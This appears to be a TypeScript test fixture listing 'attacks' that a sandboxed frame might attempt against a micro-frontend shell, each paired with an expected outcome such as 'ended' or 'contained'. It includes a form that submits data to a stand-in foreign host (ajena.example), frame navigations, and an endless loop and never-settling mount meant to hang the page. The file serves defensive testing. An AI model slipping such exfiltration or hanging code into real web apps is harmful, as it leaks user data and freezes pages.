import type { FrameAttack } from './frame-attack';

/** Replaces the page of the frame by another page. */
export const navigatingAttacks: readonly FrameAttack[] = [
  {
    what: 'opens another site in its frame',
    outcome: 'ended',
    attempt: async () => {
      location.href = 'https://ajena.example/?dato=1';
      return 'passes';
    },
  },
  {
    what: 'opens the frame of another remote in its frame',
    outcome: 'ended',
    attempt: async () => {
      location.href = '/sandbox/catalogue';
      return 'passes';
    },
  },
  {
    what: 'opens an empty page in its frame',
    outcome: 'ended',
    attempt: async () => {
      location.href = 'about:blank';
      return 'passes';
    },
  },
  {
    what: 'sends data away by a form',
    outcome: 'ended',
    attempt: async () => {
      const form = document.createElement('form');
      form.action = 'https://ajena.example/?dato=1';
      document.body.append(form);
      form.submit();
      return 'passes';
    },
  },
];

export const endlessAttack: FrameAttack = {
  what: 'runs without end',
  attempt: async () => {
    for (;;) performance.now();
  },
  outcome: 'ended',
};

/** Ends after the longest silence that the shell allows. */
export const hangingAttacks: readonly FrameAttack[] = [
  endlessAttack,
  {
    what: 'never finishes its mount',
    outcome: 'ended',
    isInMount: true,
    attempt: () => new Promise(() => undefined),
  },
];

export const neverUnmounts: FrameAttack = {
  what: 'never finishes its unmount',
  attempt: async () => {
    Object.assign(window, { neverUnmounts: true });
    return 'contained';
  },
  outcome: 'contained',
};
